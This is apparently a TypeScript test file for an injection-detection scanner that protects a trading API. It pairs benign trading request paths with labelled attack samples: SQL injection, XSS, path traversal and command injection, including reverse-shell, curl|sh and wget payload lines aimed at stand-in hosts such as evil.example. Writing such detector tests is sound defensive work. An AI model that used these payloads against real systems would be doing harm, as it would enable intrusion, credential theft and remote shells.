import { describe, expect, it } from 'vitest'
import { IDS_CATEGORIES, IDS_PATTERN_IDS, scanForInjection, type IdsCategory } from './ids-patterns.js'

// ---------------------------------------------------------------------------------------
// Clean corpus: what trading APIs really send. Part generated (symbols × endpoints × query
// shapes), part written by hand around the words and characters that trip naive rules.
// ---------------------------------------------------------------------------------------

const SYMBOLS = ['AAPL', 'BRK.B', 'VOD.L', 'RDS-A', 'BF/B', '7203.T', 'ES=F', 'EURUSD', 'BTC-USD', 'SAP.DE', 'ORCL', 'UNION.PA']
const ENDPOINTS = [
  (s: string) => `/v1/orders?symbol=${encodeURIComponent(s)}&side=buy`,
  (s: string) => `/v1/marketdata/${encodeURIComponent(s)}/candles?from=2026-11-24T09:30:00Z&to=2026-11-24T16:30:00.000Z&interval=1m`,
  (s: string) => `/v1/marketdata/${encodeURIComponent(s)}/quotes?depth=10&venue=XLON`,
  (s: string) => `/v2/positions?symbol=${encodeURIComponent(s)}&account_id=ACC-001`,
  (s: string) => `/v1/orders?symbol=${encodeURIComponent(s)}&order_type=limit&tif=gtc&sort=-updated_at&limit=50`,
  (s: string) => `/v1/trades?symbols=${encodeURIComponent(s)},MSFT&from=2026-11-24T09%3A30%3A00%2B01%3A00&select=price,qty`,
  (s: string) => `/v1/orders/drop-copy?symbol=${encodeURIComponent(s)}&status=filled&or_status=partially_filled`,
  (s: string) => `/v1/watchlists/wl_7/items/${encodeURIComponent(s)}?note=${encodeURIComponent(`buy or sell ${s} and update later`)}`,
]
const generatedClean = SYMBOLS.flatMap((s) => ENDPOINTS.map((e) => e(s)))

const QUERY_SHAPES = [
  'cursor=eyJpZCI6Im9yZF8wMUhGM0siLCJ0cyI6MTczMjQ0MDYwMH0',
  'cursor=b3JkXzAxSEYzSy0tX18tX18%3D%3D',
  'cursor=ab--cd__ef-g_h==',
  'cursor=c2VsZWN0KmZyb20=',
  `filter=${encodeURIComponent(JSON.stringify({ status: ['open', 'partially_filled'], qty: { $gt: 10 } }))}`,
  `filter=${encodeURIComponent(JSON.stringify({ $or: [{ side: 'buy' }, { tag: '#earnings' }], note: 'buy or sell' }))}`,
  `filter=${encodeURIComponent(JSON.stringify({ price: { $lt: 100, $gte: 10.5 }, venue: { $in: ['XNAS', 'XNYS'] } }))}`,
  `filter=${encodeURIComponent(JSON.stringify({ tags: ['--', '#hedge', 'drop'], q: "O'Brien's union" }))}`,
  'q=select%20best%20execution',
  'q=union%20select%20committee%20report',
  'note=buy%20or%20sell',
  'note=buy+or+hold',
  'sort=-updated_at,created_at',
  'order_by=created_at&order=desc',
  'fields=symbol,qty,price,id',
  'fields=symbol|qty|id',
  'symbols=AAPL|MSFT|GOOG',
  'symbols=AAPL;MSFT;ORCL',
  'from=2026-11-24T09:30:00.123456789Z&to=2026-11-24T16:30:00Z',
  'since=2026-11-24T09:30:00%2B01:00',
  'price_lt=100&price_gte=10',
  'expr=bid%3Cask',
  'filter=px%3Climit&onhold=true',
  'filter=price%3Cbase',
  'range=1..5',
  'note=100%25%20filled',
  'note=50%fill',
  'discount=5%off',
  'note=it%27s%20a%20buy',
  'comment=O%27Reilly%20%26%20Sons%20order',
  'note=rock%20%27n%27%20roll%20or%201',
  'q=%22best%20price%22',
  'tag=%23earnings',
  'note=order%20%231234%20filled',
  'note=profit%20%26%20loss',
  'note=R%26D%20desk',
  'desc=drop%20table%20tennis%20sponsorship',
  'desc=delete%20from%20watchlist',
  'desc=please%20update%20the%20limit%20and%20delete%20stale%20orders',
  'note=buy%20100%2C%20then%20sell%3B%20update%20later',
  'note=select%20from%20the%20dropdown',
  'note=sleep%20well',
  'note=cat%20and%20dog%20index',
  'note=hold%20%26%20sleep',
  'ua=Mozilla%2F5.0%20(X11%3B%20Linux%20x86_64)',
  'callback_url=https%3A%2F%2Fhooks.example.com%2Fv1%2Ffills%3Fid%3D7',
  'redirect=%2Fv1%2Fdashboard%3Ftab%3Dorders',
  'email=ops%2Balerts%40example.com',
  'price=%24(100)',
  'memo=%E2%82%AC100%20%E2%86%92%20%C2%A350',
  'memo=%EF%BC%A1%EF%BC%A1%EF%BC%B0%EF%BC%AC',
  'strategy=twap-v2&desk=equities&region=eu-west-1',
  'isin=US0378331005&figi=BBG000B9XRY4',
  'client_order_id=cli-88213&venue=XNAS&mic=XLON',
  'account=ACC-001&user=u_7731&session=sess_4b1d9e0a7c',
  'request_id=7f0c2b1e-54a4-4b9e-9d2a-1c3e5f7a9b0d',
  'q=and%201%20more',
  'q=or%202',
  'q=and%20then%3F',
  'q=hello%20world%20--%20goodbye',
  'q=C%23%20SDK',
  'note=see%20script%20in%20docs',
  'note=onload%20balancing',
  'note=javascript%20sdk%20v3',
  'note=I%20%3C3%20trading',
  'path=reports%2F2026%2F11%2Fsummary.pdf',
  'file=statement_2026-11.csv',
  'lang=en-GB&tz=Europe%2FLondon',
]
const hand = [
  '/v1/orders',
  '/v1/orders/ORD-2026-100123',
  '/v2/orders/ord_01HF3K9ZJ7Q8X2Y4W6V5T3R1PN',
  '/v1/orders/ord_01HF3K9ZJ7Q8X2Y4W6V5T3R1PN/cancel',
  '/v1/orders/drop-copy',
  '/v1/orders/drop-copy/sessions/DC-7',
  '/v1/accounts/ACC-001/positions',
  '/v1/accounts/ACC-001/orders?status=open,partially_filled',
  '/v1/accounts/acc_8f3a2c91/union-membership',
  '/v1/select/universe',
  '/v1/update/stream',
  '/v1/delete-requests/42',
  '/v1/keys/key_live_8f3a2c91/rotate',
  '/v1/killswitches/ks-1/reset',
  '/v1/marketdata/BRK..B/quotes',
  '/v1/marketdata/UNION.PA/candles?interval=1d',
  '/v1/orderbook/XLON/VOD.L?levels=20',
  '/v1/session/refresh',
  '/v1/auth/login',
  '/v1/funds/withdraw?currency=EUR&amount=1000.50',
  '/v1/instruments?q=drop',
  '/v1/instruments?q=Union%20Pacific',
  '/v1/instruments?q=Select%20Sector%20SPDR',
  '/v1/instruments?q=Script%20Inc',
  '/v1/instruments?q=Order%20By%20Date%20Fund',
  '/v1/reports?type=kill-switch-log&format=pdf',
  '/v1/events?action=order.new&outcome=success&limit=100',
  '/health',
  '/',
  '',
]
const cleanPaths = [
  ...generatedClean,
  ...QUERY_SHAPES.flatMap((q) => ['/v1/orders', '/v2/trades', '/v1/accounts/ACC-001/positions'].map((e) => `${e}?${q}`)),
  ...hand,
]
const cleanAttrs = [
  'twap-v2',
  'equities',
  'eu-west-1',
  'python-requests/2.31.0 vigil-demo/0.1',
  "Client's order: buy or sell at best; update later",
  'Re-route to XLON -- venue down',
  'ticket #4411 (ops)',
  'price < limit and qty > 0',
  '{"strategy":"vwap","params":{"start":"09:30","end":"16:00"}}',
  'select best execution venue',
  'DROP-COPY session 7',
  'C:\\Users\\trader\\exports (local path of the client, not a request)',
  '2026-11-24T09:30:00+01:00',
  'AAPL|MSFT|GOOG',
  'email alerts to ops@example.com & risk@example.com',
  'line one\nline two',
  'sleep mode after 18:00',
  '$(100) loss carried',
  '100% sure',
  'hash=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
]

// ---------------------------------------------------------------------------------------
// Attack corpus: [expected category, input], plain and obfuscated.
// ---------------------------------------------------------------------------------------

const ATTACKS: readonly (readonly [IdsCategory, string])[] = [
  // SQL injection
  ['sqli', "/v1/orders?symbol=AAPL' or 1=1--"],
  ['sqli', "/v1/orders?symbol=AAPL'%20OR%20'1'%3D'1"],
  ['sqli', '/v1/login?user=x" or "a"="a'],
  ['sqli', "/v1/orders?id=1' or ''='"],
  ['sqli', "/v1/orders?id='or'1'='1"],
  ['sqli', '/v1/orders?id=1 OR 1=1'],
  ['sqli', '/v1/orders?id=1%20||%201=1'],
  ['sqli', "/v1/orders?id=5' or true--"],
  ['sqli', '/v1/orders?id=1 union select 1,2,3--'],
  ['sqli', '/v1/orders?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL'],
  ['sqli', '/v1/orders?id=1%20UN/**/ION%20SEL/**/ECT%20username,password%20FROM%20users'],
  ['sqli', '/v1/orders?id=1/**/union/**/select/**/password/**/from/**/users'],
  ['sqli', '/v1/orders?id=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2'],
  ['sqli', '/v1/orders?id=1%2520union%2520select%2520%2540%2540version'],
  ['sqli', '/v1/orders?id=1 union%23foo%0aselect table_name from information_schema.tables'],
  ['sqli', "/v1/orders?id=1'; DROP TABLE orders; --"],
  ['sqli', '/v1/orders?id=1;delete from orders'],
  ['sqli', "/v1/orders?id=1';insert into users values('x','y')--"],
  ['sqli', "/v1/orders?id=1'; exec xp_cmdshell('dir')--"],
  ['sqli', '/v1/orders?id=1 and sleep(5)'],
  ['sqli', "/v1/orders?id=1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--"],
  ['sqli', '/v1/orders?id=1 and benchmark(5000000,md5(1))'],
  ['sqli', "/v1/orders?id=1'; waitfor delay '0:0:5'--"],
  ['sqli', '/v1/orders?id=1;select pg_sleep(10)'],
  ['sqli', '/v1/orders?q=x&t=information_schema.columns'],
  ['sqli', '/v1/orders?user=admin%27--'],
  ['sqli', "/v1/orders?user=admin' #"],
  ['sqli', "/v1/orders?user=admin')/*"],
  ['sqli', '/v1/orders?id=1 and 1=2'],
  ['sqli', "/v1/orders?id=1' AND '1'='2"],
  ['sqli', "/v1/orders?id=1' and ascii(substring(user(),1,1))>64--"],
  ['sqli', "/v1/orders?id=1' order by 5--"],
  ['sqli', "/v1/orders?id=1'||(select version())||'"],
  ['sqli', '/v1/orders?id=1 and extractvalue(1,concat(0x7e,@@version))'],
  ['sqli', '/v1/orders?id=%31%27%20%6F%72%20%31%3D%31'],
  ['sqli', '/v1/orders?id=1&#39; or &#x31;=&#49;'],
  ['sqli', '/v1/orders?id=1%u0027%20or%201%3D1'],
  ['sqli', '/v1/orders?id=1 AND 1=1 AND (SELECT * FROM sqlite_master)'],
  // XSS
  ['xss', '/v1/search?q=<script>alert(1)</script>'],
  ['xss', '/v1/search?q=%3CScRiPt%3Ealert(document.cookie)%3C/sCrIpT%3E'],
  ['xss', '/v1/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
  ['xss', '/v1/search?q=&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['xss', '/v1/search?q=&#x3c;script&#x3e;alert(1)'],
  ['xss', '/v1/search?q=&#60;script&#62;alert(1)'],
  ['xss', '/v1/search?q=\\u003cscript\\u003ealert(1)'],
  ['xss', '/v1/search?q=<img src=x onerror=alert(1)>'],
  ['xss', '/v1/search?q=<IMG SRC=x OnError=alert`1`>'],
  ['xss', '/v1/search?q=<svg/onload=alert(1)>'],
  ['xss', '/v1/search?q=<body onload=eval(atob("YWxlcnQoMSk="))>'],
  ['xss', '/v1/redirect?to=javascript:alert(1)'],
  ['xss', '/v1/redirect?to=JaVa%09ScRiPt:alert(1)'],
  ['xss', '/v1/redirect?to=java&Tab;script&colon;alert(1)'],
  ['xss', '/v1/search?q=%22%20onmouseover=%22alert(1)'],
  ['xss', '/v1/search?q=<iframe src=//evil.example>'],
  ['xss', '/v1/redirect?to=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['xss', '/v1/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)'],
  ['xss', '/v1/search?q=<scr%00ipt>alert(1)</script>'],
  ['xss', "/v1/search?q=x'+eval(String.fromCharCode(97,108,101,114,116))+'"],
  // Path traversal
  ['path_traversal', '/v1/reports/download?file=../../../../etc/passwd'],
  ['path_traversal', '/v1/reports/download?file=..%2f..%2f..%2fetc%2fshadow'],
  ['path_traversal', '/v1/reports/download?file=%2e%2e%2f%2e%2e%2fconfig.yaml'],
  ['path_traversal', '/v1/reports/download?file=%252e%252e%252f%252e%252e%252fvigil.yaml'],
  ['path_traversal', '/v1/reports/download?file=..\\..\\..\\windows\\win.ini'],
  ['path_traversal', '/v1/reports/download?file=..%5c..%5cboot.ini'],
  ['path_traversal', '/v1/reports/download?file=....//....//etc/hosts'],
  ['path_traversal', '/v1/reports/download?file=..%c0%af..%c0%afetc/passwd'],
  ['path_traversal', '/v1/reports/download?file=report.pdf%00.png'],
  ['path_traversal', '/v1/static/..;/admin'],
  ['path_traversal', '/v1/orders/../../admin/keys'],
  ['path_traversal', '/v1/files?path=/proc/self/environ'],
  ['path_traversal', '/v1/files?path=C:%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts'],
  ['path_traversal', '/v1/files?path=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc'],
  ['path_traversal', '/.env'],
  // Command injection
  ['cmd_injection', '/v1/tools/ping?host=127.0.0.1; cat /etc/passwd'],
  ['cmd_injection', '/v1/tools/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'],
  ['cmd_injection', '/v1/tools/ping?host=x | nc 198.51.100.7 4444'],
  ['cmd_injection', '/v1/tools/ping?host=$(whoami)'],
  ['cmd_injection', '/v1/tools/ping?host=%24%28curl%20evil.example%2Fx%7Csh%29'],
  ['cmd_injection', '/v1/tools/ping?host=`id`'],
  ['cmd_injection', '/v1/tools/ping?host=x`sleep 10`'],
  ['cmd_injection', '/v1/tools/ping?host=x && wget http://evil.example/x.sh'],
  ['cmd_injection', '/v1/tools/ping?host=x%26%26curl%20-s%20evil.example'],
  ['cmd_injection', '/v1/tools/ping?host=x;/bin/sh -i'],
  ['cmd_injection', '/v1/tools/ping?host=x|/bin/bash'],
  ['cmd_injection', '/v1/tools/run?cmd=powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
  ['cmd_injection', '/v1/tools/ping?host=x;cat${IFS}/etc/passwd'],
  ['cmd_injection', "/v1/tools/ping?host=x;c''at /etc/shadow"],
  ['cmd_injection', '/v1/tools/ping?host=x%0Aid'],
  ['cmd_injection', '/v1/tools/ping?host=x;id;'],
  ['cmd_injection', '/v1/tools/ping?host=x & whoami'],
  ['cmd_injection', '/v1/tools/ping?host=x;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
  ['cmd_injection', '/v1/tools/ping?host=x||ping -c 10 127.0.0.1'],
  ['cmd_injection', '/v1/orders?note=${jndi:ldap://evil.example/a}'],
  ['cmd_injection', '/v1/tools/run?cmd=cmd.exe /c dir'],
]

function categoriesOf(input: string): IdsCategory[] {
  return [...new Set(scanForInjection(input).map((m) => m.category))]
}

describe('scanForInjection: clean trading traffic', () => {
  it('has a corpus of at least 200 clean paths', () => {
    expect(cleanPaths.length).toBeGreaterThanOrEqual(200)
  })

  it('finds nothing in any clean path', () => {
    const flagged = cleanPaths.map((p) => [p, scanForInjection(p)] as const).filter(([, m]) => m.length > 0)
    expect(flagged).toEqual([])
  })

  it('finds nothing in clean attrs values', () => {
    const flagged = cleanAttrs.map((a) => [a, scanForInjection(a)] as const).filter(([, m]) => m.length > 0)
    expect(flagged).toEqual([])
  })
})

describe('scanForInjection: attacks', () => {
  it('has at least 60 attack samples covering every category', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60)
    expect(new Set(ATTACKS.map(([c]) => c))).toEqual(new Set(IDS_CATEGORIES))
  })

  it.each(ATTACKS.map(([c, s]) => [c, s]))('%s: %s', (category, input) => {
    expect(categoriesOf(input)).toContain(category)
  })
})

describe('scanForInjection: normalisation', () => {
  const ids = (input: string, opts?: Parameters<typeof scanForInjection>[1]) =>
    scanForInjection(input, opts).map((m) => m.pattern)

  it('undoes up to maxDecodePasses layers of percent-encoding, and no more', () => {
    const triple = '/x?q=%25253Cscript%25253E'
    expect(ids(triple)).toContain('xss.script_tag')
    expect(ids(triple, { maxDecodePasses: 2 })).toEqual([])
    expect(ids('/x?q=%3Cscript%3E', { maxDecodePasses: 0 })).toEqual([])
    expect(ids('/x?q=<script>', { maxDecodePasses: 0 })).toContain('xss.script_tag')
  })

  it('tolerates malformed percent sequences without throwing', () => {
    for (const s of ['%', '%%', '%4', '%zz', '%u12', '%E2%82', '%C0', '%F0%9F', 'a%2', '%%32%65', '%ff%fe%fd', '%ud800']) {
      expect(() => scanForInjection(s)).not.toThrow()
    }
    // A malformed sequence next to a real one: the real one still decodes.
    expect(ids('/x?q=%zz%3Cscript%3E')).toContain('xss.script_tag')
  })

  it('reads + as a space', () => {
    expect(ids("/x?id=1'+or+'a'='a")).toContain('sqli.tautology')
  })

  it('decodes named, decimal and hex HTML entities, with or without the numeric semicolon', () => {
    expect(ids('&lt;script&gt;')).toContain('xss.script_tag')
    expect(ids('&#60;script&#62;')).toContain('xss.script_tag')
    expect(ids('&#x3C;script')).toContain('xss.script_tag')
    expect(ids('&#60script')).toContain('xss.script_tag')
    // Out-of-range code points stay as text.
    expect(() => scanForInjection('&#99999999;&#xFFFFFF;')).not.toThrow()
  })

  it('decodes \\u, \\u{} and \\x escapes', () => {
    expect(ids('\\u003cscript\\u003e')).toContain('xss.script_tag')
    expect(ids('\\u{3c}script')).toContain('xss.script_tag')
    expect(ids('\\x3cscript')).toContain('xss.script_tag')
  })

  it('strips SQL comments so split keywords join, and reads them as spaces too', () => {
    expect(ids('1 UN/**/ION SEL/**/ECT 1,2')).toContain('sqli.union_select')
    expect(ids('1/**/UNION/**/SELECT/**/1,2')).toContain('sqli.union_select')
    expect(ids('1/**/UN/**/ION/**/SEL/**/ECT/**/1,2')).toContain('sqli.union_select')
    expect(ids('1 union-- x\nselect 1,2')).toContain('sqli.union_select')
  })

  it('keeps the query parameters after a line comment', () => {
    // `--` would otherwise swallow the rest of the URL, hiding the second parameter.
    expect(ids("/x?a=-- &b=1' or 1=1")).toContain('sqli.tautology')
  })

  it('folds case and removes null bytes, reporting the truncation', () => {
    expect(ids('<ScRiPt>')).toContain('xss.script_tag')
    const m = scanForInjection('/files?f=report.pdf%00.png')
    expect(m.map((x) => x.pattern)).toEqual(['path_traversal.null_byte'])
    expect(m[0]!.excerpt).toBe('/files?f=report.pdf.png')
  })

  it('reads backslashes as slashes for traversal only', () => {
    expect(ids('..\\..\\secret')).toContain('path_traversal.dot_dot_slash')
  })

  it('folds fullwidth forms', () => {
    expect(ids('＜script＞')).toContain('xss.script_tag')
  })
})

describe('scanForInjection: results', () => {
  it('gives stable ids prefixed by their category, one result per pattern', () => {
    const m = scanForInjection("/x?id=1' or 1=1 or 2=2 union select 1,2 -- <script>")
    for (const r of m) expect(r.pattern.startsWith(`${r.category}.`)).toBe(true)
    expect(new Set(m.map((r) => r.pattern)).size).toBe(m.length)
    for (const { pattern, category } of IDS_PATTERN_IDS) expect(pattern.startsWith(`${category}.`)).toBe(true)
    expect(new Set(IDS_PATTERN_IDS.map((p) => p.pattern)).size).toBe(IDS_PATTERN_IDS.length)
  })

  it('limits the excerpt to 120 characters of the normalised text around the match', () => {
    const long = `/v1/orders?pad=${'a'.repeat(500)}&q=%3Cscript%3Ealert(1)&more=${'b'.repeat(500)}`
    const [m] = scanForInjection(long)
    expect(m).toBeDefined()
    expect(m!.excerpt.length).toBe(120)
    expect(m!.excerpt).toContain('<script>')
    expect(scanForInjection('<SCRIPT>')[0]!.excerpt).toBe('<script>')
  })

  it('checks only the requested categories', () => {
    const input = "/x?id=1' or 1=1&f=../../etc/passwd"
    expect(categoriesOf(input).sort()).toEqual(['path_traversal', 'sqli'])
    expect(scanForInjection(input, { categories: ['path_traversal'] }).every((m) => m.category === 'path_traversal')).toBe(true)
    expect(scanForInjection(input, { categories: [] })).toEqual([])
  })

  it('rejects a maxDecodePasses that is not a small non-negative integer', () => {
    for (const bad of [-1, 1.5, Number.NaN, 17, Number.POSITIVE_INFINITY]) {
      expect(() => scanForInjection('x', { maxDecodePasses: bad })).toThrow(RangeError)
    }
  })

  it('returns an empty array for an empty string', () => {
    expect(scanForInjection('')).toEqual([])
  })
})

describe('scanForInjection: hostile shapes stay linear', () => {
  // No timing assertion (the benchmark measures); these just must finish, which a
  // catastrophically backtracking regex would not in the test's timeout.
  const shapes = [
    `'${' or'.repeat(700)}`,
    `<a ${'x '.repeat(1000)}`,
    `${'../'.repeat(700)}`,
    `${'%25'.repeat(700)}`,
    `${'&#'.repeat(1000)}`,
    `${'/*'.repeat(1000)}`,
    `${';'.repeat(2000)}`,
    `${"' or '".repeat(300)}`,
    `select ${'a,'.repeat(1000)}`,
    `${'`'.repeat(2048)}`,
  ]
  it.each(shapes.map((s) => [s.slice(0, 20), s]))('%s…', (_label, s) => {
    expect(Array.isArray(scanForInjection(s))).toBe(true)
  })
})
